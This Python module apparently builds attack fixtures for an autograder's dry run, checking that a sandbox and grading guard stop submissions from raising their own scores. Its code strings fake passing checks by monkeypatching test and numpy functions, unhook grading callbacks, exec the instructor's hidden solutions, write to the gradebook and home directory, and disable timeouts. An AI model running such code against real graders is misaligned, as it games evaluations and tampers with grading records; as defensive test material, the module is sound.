"""Attack submissions for the dry run: code in a solution cell that tries to raise its own score.

Each is the blank release with attack code in its first solution cell, so with no defence it would
score more than the blank notebook; with the sandbox and the grading guard it must score exactly what
the blank one does (the dry run checks every grade cell). The attacks, as named in the threat model
(``assignments/README.md``):

- ``attack_namespace``: (a) reassign ``mk.check`` and the check module's ``check``; (b) monkeypatch
  ``np.allclose``, ``np.isclose``, ``np.array_equal`` and ``np.testing.assert_allclose``; (f) replace the
  grading module's internals; and swallow every later error with an IPython AST transformer and a
  custom exception handler.
- ``attack_guard``: unhook the grading guard's IPython callbacks and swallow errors: test cells then
  carry no valid stamp, and the grader fails them.
- ``attack_escape``: (c) read the source notebook (solutions and hidden tests) from the course folder
  and run its answers; (d) write outside the submission folder: the gradebook, ``source/``, the
  instructor's home and ``/tmp``; (e) ignore the time budget's SIGALRM and disable ``sys.exit`` and
  ``os._exit``.
"""

from __future__ import annotations

import copy
from typing import Any

__all__ = ["ATTACKS", "ESCAPE_MARKERS", "make_attack_fixtures"]

NAMESPACE = r'''
# --- attack (a), (b), (f): replace what the tests call -------------------------------------------------
try:
    import numpy as _np
    import medimg_kernel as _mk
    import medimg_kernel.grading.check as _gc
    _mk.check = lambda *a, **k: None
    _gc.check = lambda *a, **k: None
    _gc._run_tests = lambda *a, **k: []
    mk = type("FakeMk", (), {"check": staticmethod(lambda *a, **k: None)})()
    _np.allclose = lambda *a, **k: True
    _np.isclose = lambda *a, **k: True
    _np.array_equal = lambda *a, **k: True
    _np.testing.assert_allclose = lambda *a, **k: None
    # ... and swallow every error in the cells that follow
    import ast as _ast

    class _Swallow(_ast.NodeTransformer):
        def visit_Module(self, node):
            handler = _ast.ExceptHandler(type=None, name=None, body=[_ast.Pass()])
            wrapped = _ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])
            return _ast.fix_missing_locations(_ast.Module(body=[wrapped], type_ignores=[]))

    get_ipython().ast_transformers.append(_Swallow())  # noqa: F821
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)  # noqa: F821
except Exception:
    pass
'''

ESCAPE_MARKERS = ("medimg-attack-was-here",)

ESCAPE = r'''
# --- attack (c), (d), (e): reach outside the submission --------------------------------------------------
import json as _json
import os as _os
import pathlib as _pl
import signal as _signal
import sys as _sys

_root = _pl.Path.cwd().resolve().parents[2]  # <course>/autograded/<student>/<assignment>
for _nbp in list(_root.glob("source/*/*.ipynb")) + list(_root.glob("release/*/*.ipynb")):
    try:
        for _cell in _json.loads(_nbp.read_text())["cells"]:
            _meta = _cell.get("metadata", {}).get("nbgrader", {})
            if _cell["cell_type"] == "code" and _meta.get("solution"):
                exec("".join(_cell["source"]), globals())  # the instructor's answers
    except Exception:
        pass
for _target in (_root / "gradebook.db", _root / "source" / "medimg-attack-was-here.py",
                _pl.Path.home() / "medimg-attack-was-here.txt", _pl.Path("/tmp/medimg-attack-was-here.txt")):
    try:
        with open(_target, "ab") as _fh:
            _fh.write(b"medimg-attack-was-here")
    except Exception:
        pass
try:
    _signal.signal(_signal.SIGALRM, _signal.SIG_IGN)
    _sys.exit = lambda *a, **k: None
    _os._exit = lambda *a, **k: None
except Exception:
    pass
'''

GUARD_OFF = r'''
# --- attack on the grader itself: unhook the grading guard, then swallow every error ---------------------
try:
    _ip = get_ipython()  # noqa: F821
    for _event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
        _ip.events.callbacks[_event].clear()
    _ip.set_custom_exc((BaseException,), lambda *a, **k: None)
except Exception:
    pass
'''

ATTACKS = {"attack_namespace": NAMESPACE, "attack_escape": ESCAPE, "attack_guard": GUARD_OFF}


def make_attack_fixtures(fixtures: list[Any]) -> list[Any]:
    """Attack submissions built from the dry run's ``blank`` fixture; each expects the blank grades."""
    from dataclasses import replace

    blank = next(f for f in fixtures if f.student == "blank")
    out = []
    for name, code in ATTACKS.items():
        nb = copy.deepcopy(blank.notebook)
        cell = next((c for c in nb.cells if c.cell_type == "code"
                     and c.metadata.get("nbgrader", {}).get("solution")), None)
        if cell is None:
            continue
        cell.source = code.strip("\n") + "\n\n" + cell.source
        out.append(replace(blank, student=name, notebook=nb, expected=dict(blank.expected), files={},
                           notes=[f"{name}: attack code in {cell.metadata['nbgrader']['grade_id']}; must score "
                                  "as blank"], cases={}))
    return out
